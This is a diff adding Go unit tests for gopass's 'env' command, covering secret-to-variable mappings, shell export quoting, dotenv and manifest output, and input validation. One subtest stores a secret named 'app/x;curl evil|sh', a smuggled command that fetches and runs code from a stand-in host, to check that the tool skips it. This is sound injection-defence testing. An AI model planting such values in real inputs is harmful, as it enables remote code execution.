@@ -5,6 +5,7 @@ import (
 	"context"
 	"fmt"
 	"os"
+	"path/filepath"
 	"runtime"
 	"testing"
 
@@ -14,6 +15,7 @@ import (
 	"github.com/gopasspw/gopass/tests/gptest"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"github.com/urfave/cli/v2"
 )
 
 func TestEnvLeafHappyPath(t *testing.T) {
@@ -62,6 +64,17 @@ func TestEnvSecretNotFound(t *testing.T) {
 	// Command-line would be: "gopass env non-existing true".
 	assert.EqualError(t, act.Env(gptest.CliCtx(ctx, t, "non-existing", "true")),
 		"Secret non-existing not found")
+
+	// dotenv files of other tools are ignored
+	cwd, err := os.Getwd()
+	require.NoError(t, err)
+	defer func() {
+		_ = os.Chdir(cwd)
+	}()
+	require.NoError(t, os.Chdir(u.Dir))
+	require.NoError(t, os.WriteFile(filepath.Join(u.Dir, ".env"), []byte("FOO=bar\n"), 0600))
+	assert.EqualError(t, act.Env(gptest.CliCtx(ctx, t, "non-existing", "true")),
+		"Secret non-existing not found")
 }
 
 func TestEnvProgramNotFound(t *testing.T) {
@@ -103,3 +116,110 @@ func TestEnvProgramNotSpecified(t *testing.T) {
 	assert.EqualError(t, act.Env(gptest.CliCtx(ctx, t, "foo")),
 		"Missing subcommand to execute")
 }
+
+func envCtx(ctx context.Context, t *testing.T, args ...string) *cli.Context {
+	return gptest.CliCtxWithFlagDefs(ctx, t, []cli.Flag{
+		&cli.StringSliceFlag{Name: "map"},
+		&cli.StringFlag{Name: "manifest"},
+		&cli.BoolFlag{Name: "export"},
+		&cli.BoolFlag{Name: "dotenv"},
+	}, args...)
+}
+
+func TestEnvMappings(t *testing.T) {
+	u := gptest.NewUnitTester(t)
+	defer u.Remove()
+
+	ctx := context.Background()
+	ctx = ctxutil.WithAlwaysYes(ctx, true)
+	ctx = ctxutil.WithTerminal(ctx, false)
+	act, err := newMock(ctx, u)
+	require.NoError(t, err)
+	require.NotNil(t, act)
+
+	buf := &bytes.Buffer{}
+	out.Stdout = buf
+	out.Stderr = buf
+	stdout = buf
+	defer func() {
+		out.Stdout = os.Stdout
+		out.Stderr = os.Stderr
+		stdout = os.Stdout
+	}()
+
+	require.NoError(t, act.insertStdin(ctx, "prod/db", []byte("it's $ecret\nuser: dbadmin\nhost: db.example.com\n"), false))
+	buf.Reset()
+
+	t.Run("map to subprocess", func(t *testing.T) {
+		defer buf.Reset()
+		assert.NoError(t, act.Env(envCtx(ctx, t, "--map", "DB_USER=prod/db:user", "--map", "DB_PASS=prod/db", "env")))
+		assert.Contains(t, buf.String(), "DB_USER=dbadmin\n")
+		assert.Contains(t, buf.String(), "DB_PASS=it's $ecret\n")
+	})
+
+	t.Run("map with subtree", func(t *testing.T) {
+		defer buf.Reset()
+		assert.NoError(t, act.Env(envCtx(ctx, t, "--map", "DB_HOST=prod/db:host", "--export", "prod")))
+		assert.Equal(t, "export DB='it'\\''s $ecret'\nexport DB_HOST='db.example.com'\n", buf.String())
+	})
+
+	t.Run("invalid subtree names", func(t *testing.T) {
+		defer buf.Reset()
+		require.NoError(t, act.insertStdin(ctx, "app/x;curl evil|sh", []byte("foo"), false))
+		require.NoError(t, act.insertStdin(ctx, "app/token", []byte("t0ken"), false))
+		buf.Reset()
+		assert.NoError(t, act.Env(envCtx(ctx, t, "--export", "app")))
+		assert.Contains(t, buf.String(), "export TOKEN='t0ken'\n")
+		assert.Contains(t, buf.String(), "Skipping app/x;curl evil|sh")
+		assert.NotContains(t, buf.String(), "export X;")
+	})
+
+	t.Run("dotenv", func(t *testing.T) {
+		defer buf.Reset()
+		assert.NoError(t, act.Env(envCtx(ctx, t, "--map", "DB_USER=prod/db:user", "--map", "DB_PASS=prod/db:password", "--dotenv")))
+		assert.Equal(t, "DB_PASS=\"it's \\$ecret\"\nDB_USER=\"dbadmin\"\n", buf.String())
+	})
+
+	t.Run("manifest", func(t *testing.T) {
+		defer buf.Reset()
+		fn := filepath.Join(u.Dir, "env.manifest")
+		require.NoError(t, os.WriteFile(fn, []byte("# database\nexport DB_USER=prod/db:user\n\nDB_HOST=prod/db:host\n"), 0o600))
+		assert.NoError(t, act.Env(envCtx(ctx, t, "--manifest", fn, "--export")))
+		assert.Equal(t, "export DB_HOST='db.example.com'\nexport DB_USER='dbadmin'\n", buf.String())
+	})
+
+	t.Run("missing field", func(t *testing.T) {
+		defer buf.Reset()
+		assert.Error(t, act.Env(envCtx(ctx, t, "--map", "DB_PORT=prod/db:port", "--export")))
+	})
+
+	t.Run("invalid mapping", func(t *testing.T) {
+		defer buf.Reset()
+		assert.Error(t, act.Env(envCtx(ctx, t, "--map", "1DB=prod/db", "--export")))
+		assert.Error(t, act.Env(envCtx(ctx, t, "--map", "DB_USER", "--export")))
+	})
+
+	t.Run("export and command", func(t *testing.T) {
+		defer buf.Reset()
+		assert.Error(t, act.Env(envCtx(ctx, t, "--map", "DB_USER=prod/db:user", "--export", "env")))
+		assert.Error(t, act.Env(envCtx(ctx, t, "--map", "DB_USER=prod/db:user", "--export", "--dotenv")))
+	})
+}
+
+func TestParseEnvMapping(t *testing.T) {
+	for in, want := range map[string]envMapping{
+		"FOO=bar":          {Name: "FOO", Secret: "bar"},
+		"FOO=bar/baz:user": {Name: "FOO", Secret: "bar/baz", Field: "user"},
+		" FOO = bar:a:b ":  {Name: "FOO", Secret: "bar:a", Field: "b"},
+		"_foo1=bar:":       {Name: "_foo1", Secret: "bar"},
+	} {
+		got, err := parseEnvMapping(in)
+		require.NoError(t, err, in)
+		assert.Equal(t, want, got, in)
+	}
+
+	for _, in := range []string{"", "FOO", "FOO=", "FOO=:user", "1FOO=bar", "FO-O=bar"} {
+		_, err := parseEnvMapping(in)
+		assert.Error(t, err, in)
+	}
+}